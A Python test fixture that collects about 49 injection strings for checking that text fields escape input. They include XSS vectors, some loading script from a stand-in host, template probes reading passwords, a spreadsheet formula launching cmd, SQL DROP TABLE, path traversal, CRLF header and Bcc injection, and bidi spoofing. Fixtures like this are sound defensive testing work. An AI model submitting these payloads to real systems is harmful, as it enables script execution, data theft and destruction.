"""Words that would run, break out or forge something if they were taken for more than words.

Each with what is shown of it, written by hand: the sent words themselves, but for what no line can hold (control
characters, line ends) and nobody could see (zero width, bidi). 「pwned」 stands wherever an element, an attribute, an
address, a header or a line would be made of it.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    sent: str
    shown: str

    def __str__(self) -> str:
        return ascii(self.shown)


def _same(*words: str) -> list[Payload]:
    return [Payload(word, word) for word in words]


PAYLOADS: list[Payload] = [
    *_same(
        # elements
        "<script>pwned()</script>",
        "<ScRiPt src=//pwned.example></sCrIpT>",
        "<img src=x onerror=pwned()>",
        "<svg/onload=pwned()>",
        "<svg><animate onbegin=pwned() attributeName=x>",
        "<iframe srcdoc='<p>pwned'></iframe>",
        "<math><a xlink:href='javascript:pwned()'>x</a>",
        "<base href=//pwned.example/>",
        "<meta http-equiv=refresh content=0;//pwned>",
        "<form action=//pwned.example><button>x",
        "<style>*{background:url(//pwned)}</style>",
        "<details open ontoggle=pwned()>",
        "<!--<img src=--><img src=x onerror=pwned()>",
        # ways out of where it stands
        '"><script>pwned()</script>',
        "'><script>pwned()</script>",
        '" onmouseover="pwned()" x="',
        "' onfocus='pwned()' autofocus='",
        "` onclick=pwned() `",
        "</textarea><script>pwned()</script>",
        "</title><script>pwned()</script>",
        "</option></select><b id=pwned>",
        "]]><pwned>",
        "--><pwned>",
        "*/pwned()/*",
        "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
        "&lt;b id=pwned&gt;&#60;i&#62;&amp;",
        "%3Cscript%3Epwned()%3C/script%3E",
        "＜script＞pwned()＜/script＞",
        # addresses
        "javascript:pwned()",
        "data:text/html,<b id=pwned>",
        # template languages
        "{{ 7|add:7 }}{{ request.user.password }}",
        '{% include "pwned.html" %}{% debug %}',
        "${7*7}#{7*7}<%= 7*7 %>",
        "%(asctime)s %s %n {0} {user.password}",
        # spreadsheets
        '=HYPERLINK("//pwned","x")&cmd|\' /C calc\'!A0',
        "+1+pwned",
        "-2+3",
        "@SUM(pwned)",
        "＝1+1",
        # databases and paths
        "'; DROP TABLE pwned;-- ",
        "../../etc/pwned",
    ),
    # what a line cannot hold, or nobody could see
    Payload("x\r\nSet-Cookie: pwned=1", "x Set-Cookie: pwned=1"),
    Payload("x\nBcc: pwned@example.com\n\npwned", "x Bcc: pwned@example.com pwned"),
    Payload("x\r\n2024-07-01 CRITICAL pwned", "x 2024-07-01 CRITICAL pwned"),
    Payload("\t=1+pwned", "=1+pwned"),
    Payload("\u202egpj.exe\u202c\u2066\u2069", "gpj.exe"),
    Payload("pw\u200bn\u200ded\ufeff", "pwned"),
    Payload("nul\x00byte\x1b[31mpwned\x07", "nulbyte[31mpwned"),
    Payload("a\u2028pwned()\u2029b", "apwned()b"),
]
# The trailing blank of a line is not kept.
PAYLOADS = [Payload(each.sent, each.shown.strip()) for each in PAYLOADS]
assert len({each.shown for each in PAYLOADS}) == len(PAYLOADS) >= 45
assert all(len(each.sent) <= 60 for each in PAYLOADS), "every text field holds each of them"
SHORT = [each for each in PAYLOADS if len(each.sent) <= 30]
